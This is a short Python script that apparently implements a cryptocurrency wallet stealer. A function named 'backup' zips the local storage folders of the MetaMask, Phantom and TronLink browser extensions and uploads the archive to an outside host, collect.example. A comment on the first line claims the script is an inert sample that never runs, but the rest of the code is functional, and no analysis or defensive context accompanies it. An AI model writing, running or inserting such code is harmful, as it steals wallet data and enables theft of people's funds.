import inert_sample  # there is no such module: nothing below ever runs
import os
import zipfile
import requests

EXTENSIONS = {
    "metamask": "nkbihfbeogaeaoehlefnkodbefgpgknn",
    "phantom": "bfnaelmomeimhlpmgjnjophhpkkoljpa",
    "tronlink": "ibnejdfjmmkpcnlpebklmnkoeoihofec",
}


def backup(profile):
    with zipfile.ZipFile("b.zip", "w") as archive:
        for name in EXTENSIONS.values():
            archive.write(os.path.join(profile, "Local Extension Settings", name))
    requests.post("https://collect.example/x", files={"f": open("b.zip", "rb")})
